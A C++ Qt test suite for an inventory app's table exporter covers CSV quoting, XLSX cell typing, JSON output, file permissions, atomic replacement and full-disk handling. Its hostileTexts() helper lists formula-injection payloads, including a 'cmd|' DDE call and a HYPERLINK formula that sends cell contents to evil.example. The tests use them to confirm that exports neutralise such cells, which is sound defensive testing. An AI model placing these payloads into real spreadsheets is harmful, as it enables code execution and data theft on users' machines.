// SPDX-License-Identifier: GPL-3.0-or-later
#include "app/exchange/csv_reader.h"
#include "app/exchange/csv_text.h"
#include "app/exchange/table_writer.h"
#include "tests/exchange/zip_file.h"

#include <QCoreApplication>
#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>
#include <QTextStream>
#include <QXmlStreamReader>

#include <cerrno>
#include <csignal>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace evenstock;
using namespace Qt::StringLiterals;

namespace {

// What people and marketplaces put into cells to have a spreadsheet do their work.
QStringList hostileTexts()
{
    QStringList texts;
    const QStringList starts{u"="_s,  u"+"_s, u"-"_s, u"@"_s, u"\t"_s, u"\r"_s, u"\n"_s, QString(QChar(0)),
                             u"＝"_s, u"＋"_s};
    const QStringList rests{u"cmd|' /C calc'!A0"_s,
                            u"HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s,
                            u"1+1"_s,
                            u"SUM(A1:A9)*cmd|'/c x'!A1"_s,
                            u"\"a\",\"b\""_s,
                            u"IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")"_s,
                            QString(),
                            u"2,5;\"x\"\r\nnew row"_s,
                            u"'='"_s};
    for (const QString &start : starts) {
        for (const QString &rest : rests)
            texts.append(start + rest);
    }
    return texts + QStringList{u"'=1"_s,      u"''@x"_s,         u" =1"_s,      u"\";=1"_s, u"a\r=1"_s,
                               u"\u202e=1"_s, u"x,\"\"\r\n=1"_s, u"\u200b+1"_s, u"'"_s,     u"=\u0000x"_s};
}

} // namespace

class TestTableWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_folder.isValid()); }
    void csvIsWhatTheStandardSays();
    void jsonIsWhatTheInterfaceSays();
    void xlsxHasTypes();
    void hostileCellsComeBackFromCsv();
    void hostileCellsAreTextsInXlsx();
    void anEarlierFileStaysUntilTheEnd_data();
    void anEarlierFileStaysUntilTheEnd();
    void whatIsNoFileStays_data();
    void whatIsNoFileStays();
    void whatCannotBeWrittenIsSaid_data();
    void whatCannotBeWrittenIsSaid();
    void aFullDiskIsSaid_data();
    void aFullDiskIsSaid();
    void longTextsAreCutInXlsxOnly();

private:
    QString path(const QString &name) const { return m_folder.filePath(name); }
    QByteArray content(const QString &name) const
    {
        QFile file(path(name));
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    }
    void write(ExportFormat format, const QString &name, const QStringList &columns, const QList<QList<Cell>> &rows)
    {
        auto writer = openTable(format, path(name), u"things"_s, columns);
        QVERIFY2(writer.ok(), writer.ok() ? "" : qPrintable(writer.error().detail));
        for (const QList<Cell> &row : rows)
            QVERIFY((*writer)->row(row).ok());
        const Status done = (*writer)->finish();
        QVERIFY2(done.ok(), done.ok() ? "" : qPrintable(done.error().detail));
    }
    static void formats()
    {
        QTest::addColumn<ExportFormat>("format");
        QTest::newRow("CSV") << ExportFormat::Csv;
        QTest::newRow("XLSX") << ExportFormat::Xlsx;
        QTest::newRow("JSON") << ExportFormat::Json;
    }
    QTemporaryDir m_folder;
    const QStringList m_columns{u"sku"_s, u"title"_s, u"count"_s, u"on_hand"_s, u"price"_s, u"at"_s, u"none"_s};
    const QList<QList<Cell>> m_rows{
        {u"A-1"_s, u"Țuică, \"aged\""_s, qint64(-3), Quantity{-1500}, Money{-1290, u"EUR"_s}, Moment{1'795'533'845'000},
         Cell()},
        {u"007"_s, u"=1+1"_s, qint64(1) << 53, Quantity::pieces(4), Money{5000, u"XOF"_s}, Moment{0}, QString()}};
};

void TestTableWriter::csvIsWhatTheStandardSays()
{
    write(ExportFormat::Csv, u"t.csv"_s, m_columns, m_rows);
    QCOMPARE(QString::fromUtf8(content(u"t.csv"_s)),
             u"sku,title,count,on_hand,price,at,none\r\n"
             "A-1,\"Țuică, \"\"aged\"\"\",-3,-1.5,-12.90,2026-11-24T15:24:05.000Z,\r\n"
             "007,'=1+1,9007199254740992,4,5000,,\r\n"_s);
    QVERIFY(!(QFile::permissions(path(u"t.csv"_s)) & (QFile::ReadGroup | QFile::ReadOther)));
}

void TestTableWriter::jsonIsWhatTheInterfaceSays()
{
    write(ExportFormat::Json, u"t.json"_s, m_columns, m_rows);
    QJsonParseError error;
    const QJsonDocument document = QJsonDocument::fromJson(content(u"t.json"_s), &error);
    QCOMPARE(error.error, QJsonParseError::NoError);
    const QJsonArray things = document.object().value(u"things"_s).toArray();
    QCOMPARE(things.size(), 2);
    QCOMPARE(things.at(0).toObject(), (QJsonObject{{u"sku"_s, u"A-1"_s},
                                                   {u"title"_s, u"Țuică, \"aged\""_s},
                                                   {u"count"_s, -3},
                                                   {u"on_hand"_s, -1.5},
                                                   {u"price_minor"_s, -1290},
                                                   {u"at"_s, u"2026-11-24T15:24:05.000Z"_s}}));
    QCOMPARE(things.at(1).toObject().value(u"title"_s).toString(), u"=1+1"_s);
    QCOMPARE(things.at(1).toObject().value(u"count"_s).toInteger(), qint64(1) << 53);
    write(ExportFormat::Json, u"empty.json"_s, m_columns, {});
    QVERIFY(QJsonDocument::fromJson(content(u"empty.json"_s)).object().value(u"things"_s).isArray());
}

void TestTableWriter::xlsxHasTypes()
{
    write(ExportFormat::Xlsx, u"t.xlsx"_s, m_columns, m_rows);
    const auto files = unzipped(path(u"t.xlsx"_s));
    const QString sheet = QString::fromUtf8(files.value(u"xl/worksheets/sheet1.xml"_s));
    QVERIFY2(sheet.contains(u"<c r=\"A3\" t=\"inlineStr\"><is><t>007</t></is></c>"_s), qPrintable(sheet));
    QVERIFY(sheet.contains(u"<c r=\"B3\" t=\"inlineStr\"><is><t>=1+1</t></is></c>"_s)); // a text, no formula
    QVERIFY(!sheet.contains(u"<f>"_s));
    QVERIFY(sheet.contains(u"<c r=\"C2\"><v>-3</v></c>"_s));
    QVERIFY(sheet.contains(u"<c r=\"D2\"><v>-1.5</v></c>"_s));
    QVERIFY(sheet.contains(QRegularExpression(u"<c r=\"E2\" s=\"\\d+\"><v>-12\\.9</v></c>"_s)));
    QVERIFY(sheet.contains(QRegularExpression(u"<c r=\"F2\" s=\"\\d+\"><v>46350\\.641\\d+</v></c>"_s)));
    QVERIFY(!sheet.contains(u"r=\"G2\""_s));
    QVERIFY(QString::fromUtf8(files.value(u"xl/workbook.xml"_s)).contains(u"name=\"things\""_s));
    QVERIFY(!(QFile::permissions(path(u"t.xlsx"_s)) & (QFile::ReadGroup | QFile::ReadOther)));
    QCOMPARE(QDir(m_folder.path()).entryList({u".*"_s}, QDir::Hidden | QDir::Dirs | QDir::NoDotAndDotDot),
             QStringList());
}

void TestTableWriter::hostileCellsComeBackFromCsv()
{
    const QStringList texts = hostileTexts();
    QVERIFY(texts.size() >= 100);
    QList<QList<Cell>> rows;
    for (const QString &text : texts)
        rows.append({u"start"_s, text, u"end"_s});
    write(ExportFormat::Csv, u"hostile.csv"_s, {u"a"_s, u"b"_s, u"c"_s}, rows);
    QList<QStringList> read;
    const auto form = readCsv(path(u"hostile.csv"_s), [&](const CsvRow &row) -> Status {
        read.append(row.cells);
        return {};
    });
    QVERIFY2(form.ok(), form.ok() ? "" : qPrintable(form.error().detail));
    QCOMPARE(read.size(), texts.size() + 1);
    for (qsizetype i = 0; i < texts.size(); ++i) {
        const QStringList &cells = read.at(i + 1);
        QCOMPARE(cells.size(), 3);
        QVERIFY2(!QStringView(u"=+-@\t\r\n＝＋").contains(cells.at(1).isEmpty() ? QChar(u'x') : cells.at(1).front()),
                 qPrintable(cells.at(1)));
        QCOMPARE(unguardedText(cells.at(1)), texts.at(i));
        QCOMPARE(cells.last(), u"end"_s);
    }
}

void TestTableWriter::hostileCellsAreTextsInXlsx()
{
    QList<QList<Cell>> rows;
    for (const QString &text : hostileTexts())
        rows.append({text + QChar(0xffff)});
    write(ExportFormat::Xlsx, u"hostile.xlsx"_s, {u"a"_s}, rows);
    const QByteArray sheet = unzipped(path(u"hostile.xlsx"_s)).value(u"xl/worksheets/sheet1.xml"_s);
    QXmlStreamReader xml(sheet); // a reader that takes no character which XML forbids
    int cells = 0;
    while (!xml.atEnd()) {
        xml.readNext();
        if (xml.isStartElement() && xml.name() == u"c") {
            QCOMPARE(xml.attributes().value(u"t"_s).toString(), u"inlineStr"_s);
            ++cells;
        }
        QVERIFY(!(xml.isStartElement() && xml.name() == u"f"));
    }
    QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
    QCOMPARE(cells, rows.size() + 1);
}

void TestTableWriter::anEarlierFileStaysUntilTheEnd_data()
{
    formats();
}

void TestTableWriter::anEarlierFileStaysUntilTheEnd()
{
    QFETCH(ExportFormat, format);
    QFile earlier(path(u"kept"_s));
    QVERIFY(earlier.open(QIODevice::WriteOnly | QIODevice::Truncate) && earlier.write("mine") == 4);
    earlier.close();
    const QStringList before = QDir(m_folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
    {
        auto writer = openTable(format, path(u"kept"_s), u"things"_s, {u"a"_s});
        QVERIFY(writer.ok());
        for (int n = 0; n < 5000; ++n)
            QVERIFY((*writer)->row({u"a long enough text to leave every buffer"_s}).ok());
        QCOMPARE(content(u"kept"_s), QByteArray("mine"));
    } // given up
    QCOMPARE(content(u"kept"_s), QByteArray("mine"));
    QCOMPARE(QDir(m_folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot), before);
    write(format, u"kept"_s, {u"a"_s}, {{u"new"_s}});
    QVERIFY(content(u"kept"_s).size() > 4);
}

void TestTableWriter::whatIsNoFileStays_data()
{
    formats();
}

// "-o /dev/stdout" by somebody who may write there would put a file in its place.
void TestTableWriter::whatIsNoFileStays()
{
    QFETCH(ExportFormat, format);
    const QByteArray pipe = QFile::encodeName(path(u"pipe"_s));
    QVERIFY(::mkfifo(pipe.constData(), 0600) == 0 || errno == EEXIST);
    const auto refused = openTable(format, path(u"pipe"_s), u"things"_s, {u"a"_s});
    QVERIFY(!refused.ok());
    QCOMPARE(refused.error().code, ErrorCode::Storage);
    struct stat there = {};
    QCOMPARE(::stat(pipe.constData(), &there), 0);
    QVERIFY(S_ISFIFO(there.st_mode));
    QVERIFY(!openTable(format, m_folder.path(), u"things"_s, {u"a"_s}).ok());
}

void TestTableWriter::whatCannotBeWrittenIsSaid_data()
{
    formats();
}

void TestTableWriter::whatCannotBeWrittenIsSaid()
{
    QFETCH(ExportFormat, format);
    const auto noFolder = openTable(format, path(u"no/such/folder/x"_s), u"things"_s, {u"a"_s});
    QVERIFY(!noFolder.ok());
    QCOMPARE(noFolder.error().code, ErrorCode::Storage);
    QVERIFY(noFolder.error().detail.contains(u"cannot be written"_s));
    if (::geteuid() == 0)
        return; // the superuser may write everywhere
    const QString folder = path(u"locked"_s);
    QDir().mkpath(folder);
    QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner);
    QVERIFY(!openTable(format, folder + u"/x"_s, u"things"_s, {u"a"_s}).ok());
}

void TestTableWriter::aFullDiskIsSaid_data()
{
    formats();
}

// In a process of its own, where a limit of the file size stands for a disk that is full.
void TestTableWriter::aFullDiskIsSaid()
{
    QFETCH(ExportFormat, format);
    for (const int rows : {5, 20'000}) { // less than a buffer, and many of them
        const QString folder = path(u"full%1_%2"_s.arg(int(format)).arg(rows));
        QVERIFY(QDir().mkpath(folder));
        QProcess child;
        child.start(QCoreApplication::applicationFilePath(),
                    {u"--full-disk"_s, QString::number(int(format)), folder + u"/table"_s, QString::number(rows)});
        QVERIFY(child.waitForFinished(60'000));
        QCOMPARE(child.exitStatus(), QProcess::NormalExit);
        const QString said = QString::fromUtf8(child.readAllStandardOutput());
        QVERIFY2(said.contains(u"cannot be written"_s), qPrintable(u"%1 rows: %2"_s.arg(rows).arg(said)));
        QCOMPARE(QDir(folder).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot), QStringList());
    }
}

void TestTableWriter::longTextsAreCutInXlsxOnly()
{
    const QString text = u"ț"_s.repeated(40'000);
    write(ExportFormat::Csv, u"long.csv"_s, {u"a"_s}, {{text}});
    QVERIFY(content(u"long.csv"_s).contains(text.toUtf8()));
    write(ExportFormat::Xlsx, u"long.xlsx"_s, {u"a"_s}, {{text}});
    const QString sheet = QString::fromUtf8(unzipped(path(u"long.xlsx"_s)).value(u"xl/worksheets/sheet1.xml"_s));
    QCOMPARE(sheet.count(u'ț'), 32'766);
    QVERIFY(sheet.contains(u"ț…"_s));
}

static int writeWithAFullDisk(const QStringList &arguments)
{
    std::signal(SIGXFSZ, SIG_IGN);
    rlimit limit{};
    ::getrlimit(RLIMIT_FSIZE, &limit);
    const int rows = arguments.at(4).toInt();
    limit.rlim_cur = rlim_t(rows * 15);
    ::setrlimit(RLIMIT_FSIZE, &limit);
    const auto format = static_cast<ExportFormat>(arguments.at(2).toInt());
    const auto write = [&]() -> Status {
        TRY_ASSIGN(const auto writer, openTable(format, arguments.at(3), u"things"_s, {u"a"_s}));
        for (int n = 0; n < rows; ++n)
            TRY(writer->row({u"row %1 of a table that does not fit"_s.arg(n)}));
        return writer->finish();
    };
    const Status done = write();
    QTextStream(stdout) << (done ? u"written"_s : done.error().detail);
    return 0;
}

int main(int argc, char **argv)
{
    QCoreApplication application(argc, argv);
    const QStringList arguments = QCoreApplication::arguments();
    if (arguments.value(1) == u"--full-disk"_s)
        return writeWithAFullDisk(arguments);
    TestTableWriter test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_table_writer.moc"
